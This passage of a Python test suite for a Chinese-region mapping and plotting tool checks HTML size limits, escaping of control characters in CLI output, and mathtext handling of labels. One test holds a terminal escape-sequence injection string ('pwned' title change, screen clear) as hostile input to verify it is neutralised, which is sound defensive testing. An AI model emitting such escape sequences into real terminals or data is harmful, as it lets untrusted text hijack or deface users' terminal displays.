    table = pd.DataFrame({"key": ["万州", "开州", "梁平", *keys], "v": [1.0, 2.0, 3.0, *[4.0] * len(keys)]})
    m = cg.choropleth(table, "v", "key", k=3, allow_partial=True, tiles=None, offline=True)
    html = maps._render(m, True)
    assert len(html) < 3_000_000 and "… and 1,990 more" in html
    assert len(m.unmatched) == 2000, "the full list stays on the map object"


def test_cli_shows_control_characters_from_data_instead_of_sending_them(tmp_path):
    path = _platform_file(tmp_path, "平台\x1b]0;pwned\x07\x1b[2J")
    run = _cli(["platforms", "--file", str(path)], tmp_path)
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stdout and "\x07" not in run.stdout and "\\x1b]0;pwned\\x07" in run.stdout


def test_platform_labels_are_never_mathtext(tmp_path):
    import matplotlib.text

    user = cg.load_platforms(_platform_file(tmp_path, "x $\\undefinedmacro$ y"))
    for lang in ("en", "zh"):
        fig = cg.plot_platforms(platform_set=user, lang=lang)
        for ext in ("png", "pdf", "svg"):
            fig.savefig(tmp_path / f"p-{lang}.{ext}")
        shown = [t._preprocess_math(t.get_text())[0] for t in fig.findobj(matplotlib.text.Text)]
        assert any("$\\undefinedmacro$" in t for t in shown)
